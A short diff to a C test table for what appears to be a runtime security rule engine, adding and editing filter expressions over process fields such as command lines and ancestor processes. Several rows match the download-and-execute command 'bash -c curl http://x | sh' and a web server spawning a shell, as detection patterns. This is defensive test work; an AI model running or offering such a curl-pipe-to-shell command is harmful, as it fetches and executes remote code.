@@ -308,7 +308,8 @@ static const struct { make *make; bool want; const char *text; } rows[] = {
 	/* The process table. */
 	{ record_openat, true, "proc.exe = /usr/bin/bash and proc.exepath endswith bash" },
 	{ record_openat, true, "proc.cmdline = 'bash -c curl http://x | sh'" },
-	{ record_openat, true, "proc.cmdline contains '-c curl'" },
+	{ record_openat, true, "proc.cmdline contains '-c curl' and proc.exeline = 'bash -c curl http://x | sh'" },
+	{ record_openat, true, "proc.acmdline[2] = bash and proc.exeline startswith bash" },
 	{ record_openat, true, "proc.args intersects (-c) and proc.args contains '-c curl'" },
 	{ record_openat, true, "proc.cwd = /root" },
 	{ record_openat, true, "proc.pname = sshd and proc.pexe = /usr/sbin/sshd and proc.pcmdline = 'sshd -D'" },
@@ -322,7 +323,7 @@ static const struct { make *make; bool want; const char *text; } rows[] = {
 	{ record_openat, false, "proc.aname[4] exists or proc.apid[4] exists or proc.aexe[64] exists" },
 	{ record_openat, true, "proc.aexe[1] = /usr/sbin/nginx and proc.aexepath[2] endswith bash" },
 	{ record_openat, true, "proc.apid[1] = 300 and proc.apid[2] in (200, 201) and proc.apid[3] < 2" },
-	{ record_openat, true, "proc.acmdline[1] = 'nginx -g x y' and proc.acmdline[3] = 'sshd -D'" },
+	{ record_openat, true, "proc.acmdline[1] = 'nginx: worker -g x y' and proc.acmdline[3] = 'sshd -D'" },
 	{ record_openat, true, "proc.aname in (sshd) and proc.aname in (httpd, 'nginx: worker')" },
 	{ record_openat, true, "proc.aname = bash and proc.aname startswith nginx and proc.aname contains ss" },
 	{ record_openat, false, "proc.aname in (cat, tmux)" },
